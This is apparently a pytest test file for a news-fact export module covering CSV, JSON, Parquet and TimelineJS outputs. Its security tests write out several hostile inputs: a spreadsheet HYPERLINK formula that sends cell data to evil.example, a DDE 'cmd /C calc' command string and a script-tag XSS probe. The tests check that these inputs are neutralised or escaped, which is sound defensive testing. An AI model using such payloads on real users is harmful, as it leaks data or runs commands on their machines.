"""The fact table as CSV, JSON, Parquet and TimelineJS: each file read back and checked."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import jsonschema
import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from charts.factrows import STUBB_DOC, fact_frame, story_facts
from dashboard.export import DATA_FORMATS, data_bytes
from dashboard.export.data import FORMULA_STARTS, neutralise_formula
from dashboard.facts.schema import FACT_COLUMNS

SCHEMA = json.loads((Path(__file__).parent / "timelinejs.schema.json").read_text())


def read_csv(payload: bytes) -> list[dict[str, str]]:
    assert payload.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return list(csv.DictReader(io.StringIO(payload.decode("utf-8-sig"), newline="")))


def test_csv_has_one_row_per_fact_in_schema_order(tmp_path):
    facts = story_facts()
    path = tmp_path / "facts.csv"
    path.write_bytes(data_bytes(facts, "csv"))
    rows = read_csv(path.read_bytes())
    assert list(rows[0]) == list(FACT_COLUMNS)
    assert [r["fact_id"] for r in rows] == facts["fact_id"].tolist()
    stubb = next(r for r in rows if r["doc_id"] == STUBB_DOC)
    assert stubb["actors"] == "Donald Trump; Alexander Stubb"
    assert (stubb["start"], stubb["end"], stubb["dct"]) == ("2025-10-01", "2025-11-01", "2025-10-21")
    assert "Außenminister" in rows[0]["title"]
    off_axis = next(r for r in rows if r["value"] == "PAST_REF")
    assert off_axis["start"] == off_axis["end"] == ""


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cells_cannot_run_as_formulas(start):
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    facts = fact_frame([{"value": "2025", "sentence": evil, "timex_text": "2025", "actors": [f"{start}cmd|' /C calc'!A0"],
                         "title": evil}])
    row = read_csv(data_bytes(facts, "csv"))[0]
    for column in ("sentence", "title", "actors"):
        assert row[column].startswith("'") and row[column][1:].startswith(start)
    assert row["sentence"] == "'" + evil


@given(st.text(min_size=0, max_size=30))
@settings(max_examples=200, deadline=None)
def test_no_csv_cell_starts_a_formula_and_no_text_is_lost(text):
    facts = fact_frame([{"value": "2025", "sentence": text, "timex_text": "2025"}])
    cell = read_csv(data_bytes(facts, "csv"))[0]["sentence"]
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == neutralise_formula(text)


def test_json_is_an_array_of_facts_with_iso_dates_and_lists():
    records = json.loads(data_bytes(story_facts(), "json"))
    assert len(records) == 8 and list(records[0]) == list(FACT_COLUMNS)
    first = records[0]
    assert first["start"] == "2024-01-01" and first["end"] == "2025-01-01" and first["actors"] == ["NATO", "Joe Biden"]
    assert first["mod"] is None and first["sentence_index"] == 14
    assert records[-1]["start"] is None


def test_parquet_keeps_the_schema_types(tmp_path):
    facts = story_facts()
    path = tmp_path / "facts.parquet"
    path.write_bytes(data_bytes(facts, "parquet"))
    table = pq.read_table(path)
    assert table.column_names == list(FACT_COLUMNS)
    assert str(table.schema.field("actors").type) == "list<element: string>"
    assert str(table.schema.field("start").type) == "timestamp[us]"
    back = table.to_pandas()
    assert back["actors"].map(list).tolist() == facts["actors"].tolist()
    assert back["start"].tolist() == facts["start"].tolist()


def test_parquet_of_facts_without_any_actor_still_has_a_list_column():
    facts = fact_frame([{"value": "2025", "actors": []}])
    table = pq.read_table(io.BytesIO(data_bytes(facts, "parquet")))
    assert str(table.schema.field("actors").type) == "list<element: string>"


def test_timelinejs_validates_and_dates_carry_the_facts_precision():
    document = json.loads(data_bytes(story_facts(), "timelinejs"))
    jsonschema.validate(document, SCHEMA)
    events = {e["display_date"]: e for e in document["events"]}
    assert len(events) == 6  # the vague "derzeit" and "früher" are left out, as on the timeline
    assert events["2024"]["start_date"] == {"year": 2024} and "end_date" not in events["2024"]
    assert events["Oct 2025"]["start_date"] == {"year": 2025, "month": 10}
    assert events["3 Dec 2025"]["start_date"] == {"year": 2025, "month": 12, "day": 3}
    early = events["early 2026"]
    assert early["start_date"] == {"year": 2026, "month": 1} and early["end_date"] == {"year": 2026, "month": 4}
    assert events["Oct 2025"]["group"] == "Donald Trump"
    assert len({e["unique_id"] for e in document["events"]}) == 6
    with_vague = json.loads(data_bytes(story_facts(), "timelinejs", show_vague=True))
    assert len(with_vague["events"]) == 7


def test_timelinejs_headlines_are_labels_or_the_sentence_never_an_actor_list():
    facts = story_facts().assign(label=["Allies pledge aid at Washington summit", *[""] * 7])
    heads = [e["text"]["headline"] for e in json.loads(data_bytes(facts, "timelinejs"))["events"]]
    assert heads[0] == "Allies pledge aid at Washington summit"
    assert "US-Außenminister Marco Rubio wird am Mittwoch nicht an dem Treffen teilnehmen." in heads
    assert "NATO, Joe Biden" not in heads


def test_timelinejs_has_a_title_slide_few_groups_and_no_duplicate_slides():
    rows = [{"value": "2025-10", "actors": [f"Actor {i:02d}"], "sentence": f"Actor {i} spoke in October."} for i in range(40)]
    rows += [{"value": "2025-11", "actors": ["NATO"], "sentence": "NATO met.", "doc_id": d} for d in ("a", "b", "c")]
    document = json.loads(data_bytes(fact_frame(rows), "timelinejs", title="Facts naming NATO, Oct 2025"))
    jsonschema.validate(document, SCHEMA)
    assert document["title"]["text"]["headline"] == "Facts naming NATO, Oct 2025"
    assert len({e["group"] for e in document["events"]}) <= 10 and "others" in {e["group"] for e in document["events"]}
    assert sum(e["text"]["headline"] == "NATO met." for e in document["events"]) == 1  # three reports, one slide


def test_timelinejs_sheet_has_the_google_sheet_template_columns():
    rows = list(csv.DictReader(io.StringIO(data_bytes(story_facts(), "timelinejs-csv").decode("utf-8-sig"))))
    assert list(rows[0]) == ["Year", "Month", "Day", "Time", "End Year", "End Month", "End Day", "End Time",
                             "Display Date", "Headline", "Text", "Media", "Media Credit", "Media Caption",
                             "Media Thumbnail", "Type", "Group", "Background"]
    assert rows[0]["Type"] == "title" and len(rows) == 7
    early = next(r for r in rows if r["Display Date"] == "early 2026")
    assert (early["Year"], early["Month"], early["End Year"], early["End Month"]) == ("2026", "1", "2026", "4")


def test_chart_ready_csv_has_start_inclusive_end_label_text_group_source_url():
    facts = story_facts()
    facts.loc[facts["timex_text"] == "am Mittwoch", "source"] = "https://www.tagesschau.de/nato-rubio"
    rows = list(csv.DictReader(io.StringIO(data_bytes(facts, "chart-csv").decode("utf-8-sig"))))
    assert list(rows[0])[:7] == ["start", "end", "label", "text", "group", "source", "url"]
    year = next(r for r in rows if r["date"] == "2024")
    assert (year["start"], year["end"]) == ("2024-01-01", "2024-12-31")  # inclusive end
    wednesday = next(r for r in rows if r["date"] == "3 Dec 2025")
    assert wednesday["url"] == "https://www.tagesschau.de/nato-rubio" and wednesday["source"].endswith("tagesschau.de")
    assert wednesday["start"] == wednesday["end"] == "2025-12-03"


def test_timelinejs_ranges_end_on_their_last_unit():
    document = json.loads(data_bytes(fact_frame([{"value": "2025-Q4"}, {"value": "202"}, {"value": "2025-W49"}]), "timelinejs"))
    jsonschema.validate(document, SCHEMA)
    spans = {e["display_date"]: (e["start_date"], e.get("end_date")) for e in document["events"]}
    assert spans["Oct–Dec 2025"] == ({"year": 2025, "month": 10}, {"year": 2025, "month": 12})
    assert spans["the 2020s"] == ({"year": 2020}, {"year": 2029})
    assert spans["week of 1 Dec 2025"] == ({"year": 2025, "month": 12, "day": 1}, {"year": 2025, "month": 12, "day": 7})


def test_timelinejs_escapes_markup_and_groups_by_document():
    facts = fact_frame([{"value": "2025", "sentence": "<script>alert(1)</script> & more", "actors": ["<i>X</i>"]}])
    document = json.loads(data_bytes(facts, "timelinejs", group_by="document"))
    jsonschema.validate(document, SCHEMA)
    event = document["events"][0]
    assert "<script>" not in event["text"]["text"] and "&lt;script&gt;" in event["text"]["text"]
    assert event["text"]["headline"] == "&lt;script&gt;alert(1)&lt;/script&gt; &amp; more"
    assert "&lt;i&gt;X&lt;/i&gt;" in event["text"]["text"]
    assert event["group"] == "NATO-Außenminister treffen sich ohne Rubio"


@pytest.mark.parametrize("fmt", DATA_FORMATS)
def test_no_facts_still_make_a_valid_file(fmt):
    payload = data_bytes(story_facts().iloc[:0], fmt)
    if fmt == "csv":
        assert read_csv(payload) == [] and payload.decode("utf-8-sig").startswith("fact_id,doc_id")
    elif fmt == "json":
        assert json.loads(payload) == []
    elif fmt == "parquet":
        assert pq.read_table(io.BytesIO(payload)).num_rows == 0
    elif fmt == "chart-csv":
        assert read_csv(payload) == [] and payload.decode("utf-8-sig").startswith("start,end,label")
    elif fmt == "timelinejs-csv":
        assert [r["Type"] for r in read_csv(payload)] == ["title"]
    else:
        jsonschema.validate(json.loads(payload), SCHEMA)


def test_store_shaped_frames_export_alike():
    facts = story_facts()
    import numpy as np

    as_store = facts.assign(actors=[np.array(a, dtype=object) if a else pd.NA for a in facts["actors"]])
    for fmt in DATA_FORMATS:
        assert data_bytes(as_store, fmt) == data_bytes(facts, fmt)


def test_unknown_format_is_an_error():
    with pytest.raises(ValueError, match="data format"):
        data_bytes(story_facts(), "xlsx")


fact_rows = st.lists(
    st.fixed_dictionaries({
        "value": st.sampled_from(["2024", "2025-10", "2025-Q4", "2025-W49", "2025-12-03", "2025-12-03T15:30",
                                  "202", "18", "2026-SU", "PAST_REF", "PRESENT_REF"]),
        "mod": st.sampled_from([None, "START", "MID", "END", "APPROX"]),
        "actors": st.lists(st.sampled_from(["Donald Trump", "NATO", "<b>X</b>", "=1+1"]), max_size=3, unique=True),
        "sentence": st.text(max_size=40),
        "status": st.sampled_from(["past", "ongoing", "future"]),
        "title": st.sampled_from(["", "Nachrichten", "<i>T</i>"]),
    }),
    max_size=12,
)


@given(fact_rows)
@settings(max_examples=60, deadline=None)
def test_timelinejs_of_any_facts_validates_and_never_ends_before_it_starts(rows):
    facts = fact_frame(rows)
    for group_by in ("actor", "document"):
        document = json.loads(data_bytes(facts, "timelinejs", group_by=group_by))
        jsonschema.validate(document, SCHEMA)
        on_axis = facts["start"].notna() & ~facts["value"].str.endswith("_REF")
        assert len(document["events"]) <= on_axis.sum() and (len(document["events"]) > 0) == bool(on_axis.any())
        for event in document["events"]:
            end = event.get("end_date", event["start_date"])
            assert set(end) == set(event["start_date"])
            order = [k for k in ("year", "month", "day", "hour", "minute", "second") if k in end]
            assert [event["start_date"][k] for k in order] <= [end[k] for k in order]
            assert "<" not in event["text"]["headline"] and "<" not in event["group"]
